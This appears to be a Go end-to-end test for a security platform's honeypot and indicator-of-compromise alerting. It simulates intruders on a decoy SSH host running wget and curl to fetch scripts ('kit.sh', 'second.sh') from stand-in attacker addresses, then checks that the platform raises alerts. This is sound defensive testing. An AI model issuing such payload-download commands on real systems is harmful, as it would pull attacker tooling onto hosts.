package honeypot

import (
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/bulkheadhq/bulkhead/e2e/harness"
)

// TestTold: a honeypot outside of the platform tells it what an intruder did there, once its machine has the right to; what it learned before then, and while the platform was away, is
// told, too. From then on a machine of ours that fetches something from the address the intruder fetched from gets an alert.
func TestTold(t *testing.T) {
	need(t, "ssh")
	p := harness.Start(t, harness.Options{})
	group := p.PutGroup(t)
	state := filepath.Join(t.TempDir(), "state")
	p.Output(t, "agent", "enrol", "--state", state, "--resource-group", filepath.Base(group), "--name", "decoy1")
	d := start(t, "--state", state)
	visit := func(command string) {
		t.Helper()
		if out, err := client(t, command+"\nexit 0\n", "ssh", "-tt", "-p", d.ssh, "cassandra@127.0.0.1"); err != nil {
			t.Fatalf("ssh: %v %s", err, out)
		}
	}
	visit("wget http://203.0.113.77/kit.sh")
	waiting := func() int64 {
		files, _ := filepath.Glob(filepath.Join(d.data, "honeypot", "queue", "*.batches"))
		var n int64
		for _, f := range files {
			if i, err := os.Stat(f); err == nil {
				n += i.Size()
			}
		}
		return n
	}
	until(t, "the first visit is on disk", func() bool { return waiting() > 300 })
	if list := string(p.Output(t, "indicators", "list")); strings.Contains(list, "203.0.113.77") {
		t.Fatalf("a machine without the right to made indicators:\n%s", list)
	}
	machine := p.ARM(t, http.MethodGet, group+"/providers/Microsoft.HybridCompute/machines/decoy1?api-version=2024-07-10", nil)
	principal, _ := machine["identity"].(map[string]any)["principalId"].(string)
	const securityAdmin = "fb1c8493-542b-48eb-b624-b4c8fea62acd"
	sub := "/subscriptions/" + p.Run.SubscriptionID
	p.ARM(t, http.MethodPut, sub+"/providers/Microsoft.Authorization/roleAssignments/33333333-3333-4333-8333-333333333333?api-version=2022-04-01", map[string]any{
		"properties": map[string]any{"roleDefinitionId": sub + "/providers/Microsoft.Authorization/roleDefinitions/" + securityAdmin, "principalId": principal, "principalType": "ServicePrincipal"},
	})
	indicators := func(values ...string) func() bool {
		return func() bool {
			list := string(p.Output(t, "indicators", "list", "--least", "0.5"))
			for _, v := range values {
				if !strings.Contains(list, v) {
					return false
				}
			}
			return true
		}
	}
	until(t, "what the first intruder did is known", indicators("203.0.113.77 ", "http://203.0.113.77/kit.sh"))
	p.Kill9(t)
	visit("curl -O http://198.51.100.88/second.sh")
	p.Restart(t)
	until(t, "what happened while the platform was away is known", indicators("203.0.113.77 ", "198.51.100.88 ", "http://198.51.100.88/second.sh"))
	var told string
	until(t, "both visits are told", func() bool {
		told = string(p.Output(t, "honeypot", "sessions", "--told", "--json"))
		return strings.Contains(told, "second.sh")
	})
	if n := strings.Count(told, "\n"); n != 2 || !strings.Contains(told, "kit.sh") || strings.Count(told, principal) != 2 {
		t.Errorf("%d visits are told:\n%s", n, told)
	}
	checkVictim(t, p, group)
}

// checkVictim has a machine of ours fetch from the first intruder's address.
func checkVictim(t *testing.T, p *harness.Platform, group string) {
	t.Helper()
	dir := t.TempDir()
	log, state := filepath.Join(dir, "audit.log"), filepath.Join(dir, "state")
	at := fmt.Sprintf("msg=audit(%d.120:4711):", time.Now().Unix())
	lines := []string{
		"type=SYSCALL " + at + ` arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=2001 pid=2031 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=7 comm="wget" exe="/usr/bin/wget" key=(null)`,
		"type=EXECVE " + at + ` argc=2 a0="wget" a1="http://203.0.113.77/another-file"`, "type=CWD " + at + ` cwd="/srv"`, "type=EOE " + at, "",
	}
	if err := os.WriteFile(log, []byte(strings.Join(lines, "\n")), 0o600); err != nil {
		t.Fatal(err)
	}
	p.Output(t, "agent", "enrol", "--state", state, "--resource-group", filepath.Base(group), "--name", "victim1")
	bin, err := harness.Binary()
	if err != nil {
		t.Fatal(err)
	}
	agent := exec.Command(bin, "agent", "--state", state, "--audit-log", log, "--from-start", "--inventory=false")
	if err := agent.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = agent.Process.Signal(os.Interrupt)
		_ = agent.Wait()
	}()
	until(t, "the machine that fetches from there gets an alert", func() bool {
		a := p.TryARM(t, http.MethodGet, group+"/providers/Microsoft.Security/alerts?api-version=2022-01-01", nil)
		return strings.Contains(string(a.Body), `"VM_SuspectDownload"`) && strings.Contains(string(a.Body), "203.0.113.77 is among the indicators")
	})
}

func until(t *testing.T, what string, ok func() bool) {
	t.Helper()
	for end := time.Now().Add(40 * time.Second); !ok(); time.Sleep(100 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("not so after 40 s: %s", what)
		}
	}
}
